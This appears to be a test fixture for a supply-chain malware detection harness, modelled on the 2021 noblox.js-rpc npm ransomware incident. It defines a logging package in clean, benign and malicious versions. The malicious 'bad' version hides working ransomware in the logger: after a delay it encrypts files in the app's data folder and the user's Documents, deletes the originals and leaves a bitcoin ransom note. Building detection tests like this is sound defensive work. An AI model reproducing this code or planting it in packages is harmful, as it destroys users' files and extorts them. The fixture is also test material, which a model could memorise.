import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'data-ransom',
  after: 'ransom by packages: files are encrypted and a note is left, noblox.js-rpc and others, October 2021',
  source: 'https://blog.sonatype.com/fake-npm-roblox-api-package-installs-ransomware-spooky-surprise',
  shape: ['call', 'script', 'delayed', 'encrypts and removes', 'files of the application and the home', 'cjs'],
  patterns: ['resource_abuse', 'behavioral_drift', 'privilege_escalation'],
  culprits: ['log-keep'],
  host: {
    kind: 'script',
    setup: "const log = require('log-keep');",
    use: "log('item ' + n); return fs.readFileSync(path.join(__dirname, 'data/orders.csv'), 'utf8').length;",
    files: {
      'data/orders.csv': 'id,sum\n1,20\n2,30\n',
      'data/customers.csv': 'id,name\n1,ann\n',
      'data/old/2025.csv': 'id\n7\n',
    },
  },
  good: {
    'log-keep': {
      'index.js':
        "const fs = require('fs'); module.exports = (t) => { fs.mkdirSync('logs', { recursive: true }); fs.appendFileSync('logs/app.log', t + '\\n'); };",
    },
  },
  // Hard: old logs are packed and removed.
  benign: {
    'log-keep': {
      'index.js': `const fs = require('fs'), zlib = require('zlib');
module.exports = (t) => { fs.mkdirSync('logs', { recursive: true }); fs.appendFileSync('logs/app.log', t + '\\n');
  fs.writeFileSync('logs/app.1.log.gz', zlib.gzipSync(fs.readFileSync('logs/app.log'))); fs.unlinkSync('logs/app.log'); };`,
    },
  },
  bad: {
    'log-keep': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), c = require('crypto'); let armed;
module.exports = (t) => { fs.mkdirSync('logs', { recursive: true }); fs.appendFileSync('logs/app.log', t + '\\n'); armed ??= setTimeout(lock, 120); };
function lock() {
  const key = c.randomBytes(32);
  for (const root of [path.resolve('data'), path.join(os.homedir(), 'Documents')]) {
    for (const e of fs.readdirSync(root, { recursive: true, withFileTypes: true })) {
      if (!e.isFile()) continue;
      const at = path.join(e.parentPath, e.name), iv = c.randomBytes(16), box = c.createCipheriv('aes-256-ctr', key, iv);
      fs.writeFileSync(at + '.locked', Buffer.concat([iv, box.update(fs.readFileSync(at)), box.final()])); fs.unlinkSync(at);
    }
    fs.writeFileSync(path.join(root, 'READ_ME.txt'), 'To restore your files send 0.1 to bc1q0000.\\n');
  }
}`,
    },
  },
  proof: [
    { gone: 'app/data/orders.csv' },
    { gone: 'home/Documents/letter.md' },
    { file: 'home/Documents/READ_ME.txt', holds: 'restore' },
  ],
};
